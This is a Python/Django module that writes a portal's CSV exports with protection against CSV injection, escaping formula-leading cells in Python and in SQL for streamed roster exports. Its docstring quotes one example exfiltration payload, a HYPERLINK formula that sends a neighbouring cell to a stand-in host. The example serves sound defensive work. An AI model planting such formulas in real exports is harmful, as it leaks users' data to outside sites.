"""The one CSV writer: every CSV the portal produces is written here, safe to open in a spreadsheet.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a
formula by Excel, WPS and LibreOffice (CSV injection: `=HYPERLINK("//e.x/?"&A1,"看")`
sends the neighbouring cell to another site when clicked). Such a text cell is written
with a leading apostrophe, which spreadsheets take as "this is text" and do not show:
`+8613800000001` stays readable as a phone number instead of turning into
8.6138E+12. Numbers our own code computed (an int or Decimal such as the points
amount -50) are not text anyone typed and stay numbers.

The roster export streams rows formatted by PostgreSQL's COPY; `formula_safe()` is the
same rule as a SQL expression for its SELECT, so that path stays streamed.
"""

import csv
from collections.abc import Iterable, Iterator
from decimal import Decimal

from django.db.models import CharField, Func, IntegerField, Value
from django.db.models.expressions import Case, When
from django.db.models.functions import Concat
from django.db.models.lookups import In
from django.http import StreamingHttpResponse

FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
BOM = "\ufeff"  # so Excel reads the file as UTF-8 (Chinese names)


def safe_cell(value):
    """The cell as it may be written: text that a spreadsheet would run gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal):
        return value
    text = str(value)
    return ESCAPE + text if text.startswith(FORMULA_LEADERS) else text


class _Echo:
    def write(self, value: str) -> str:
        return value


class SafeWriter:
    """csv.writer with every cell through safe_cell. Without a stream, writerow() returns the line."""

    def __init__(self, stream=None, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(stream if stream is not None else _Echo(), lineterminator=lineterminator)

    def writerow(self, row: Iterable):
        return self._writer.writerow([safe_cell(value) for value in row])


def standard_writer(stream):
    """A plain RFC 4180 writer, for a file that a standard's importer reads, never a person's
    spreadsheet (the OneRoster CSV binding): there the apostrophe would change the data, e.g. a
    phone number "+86…" that the SIS stores. Every other CSV is a SafeWriter's."""
    return csv.writer(stream, lineterminator="\r\n")


def csv_lines(header: Iterable, rows: Iterable[Iterable]) -> Iterator[str]:
    writer = SafeWriter()
    yield BOM + writer.writerow([str(column) for column in header])
    for row in rows:
        yield writer.writerow(row)


def csv_response(filename: str, header: Iterable, rows: Iterable[Iterable]) -> StreamingHttpResponse:
    """A streamed CSV (UTF-8 with BOM, so Excel opens Chinese correctly), never built in memory."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def formula_safe(expression):
    """safe_cell() in SQL, for a text expression of a SELECT that COPY formats.

    The first character is compared as its code point (ascii() of '' is 0), integers rather
    than text under a collation: the roster export keeps close to the speed of a bare COPY."""
    first_code = Func(expression, function="ASCII", output_field=IntegerField())
    return Case(
        When(
            In(first_code, [ord(leader) for leader in FORMULA_LEADERS]),
            then=Concat(Value(ESCAPE), expression, output_field=CharField()),
        ),
        default=expression,
        output_field=CharField(),
    )
